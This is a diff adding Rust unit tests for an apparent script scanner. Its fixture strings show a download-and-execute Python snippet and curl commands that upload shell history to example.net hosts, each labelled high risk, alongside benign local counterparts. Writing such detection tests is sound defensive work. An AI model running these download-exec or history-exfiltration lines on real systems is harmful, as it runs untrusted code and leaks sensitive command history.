@@ -168,3 +168,39 @@ fn a_local_script_handed_to_powershell_is_clean() {
               cmd /c type cfg.json\n";
     not_high("scripts/setup.ps1", ps);
 }
+
+#[test]
+fn a_download_written_through_an_unnamed_handle_then_run_is_high() {
+    let py = "import subprocess, urllib.request as u\n\
+              with u.urlopen('https://cdn.example.net/patch.py') as r:\n\
+              \x20   open('/tmp/patch.py', 'wb').write(r.read())\n\
+              subprocess.call(['python3', '/tmp/patch.py'])\n";
+    high("scripts/patch.py", py, "flow-download-exec");
+}
+
+#[test]
+fn local_text_written_through_an_unnamed_handle_then_run_is_clean() {
+    let py = "import subprocess, urllib.request as u\n\
+              status = u.urlopen('https://api.example.net/v1/status').read()\n\
+              open('/tmp/run.py', 'w').write(\"print('hello')\")\n\
+              open('/tmp/status.json', 'wb').write(status)\n\
+              subprocess.call(['python3', '/tmp/run.py'])\n";
+    not_high("scripts/run.py", py);
+}
+
+#[test]
+fn shell_history_sent_anywhere_is_high() {
+    let sh = "history | tail -n 200 > /tmp/h.txt\n\
+              curl -s -T /tmp/h.txt ftp://files.example.net/incoming/\n";
+    high("scripts/h.sh", sh, "flow-secret-exfil");
+    let sh = "curl -s -F f=@$HOME/.zsh_history https://paste.example.net/\n";
+    high("scripts/z.sh", sh, "flow-secret-exfil");
+}
+
+#[test]
+fn shell_history_searched_locally_is_clean() {
+    let sh = "history | grep -c docker\n\
+              grep -c kubectl ~/.bash_history\n\
+              curl -s https://api.example.net/v1/ping\n";
+    not_high("scripts/h.sh", sh);
+}
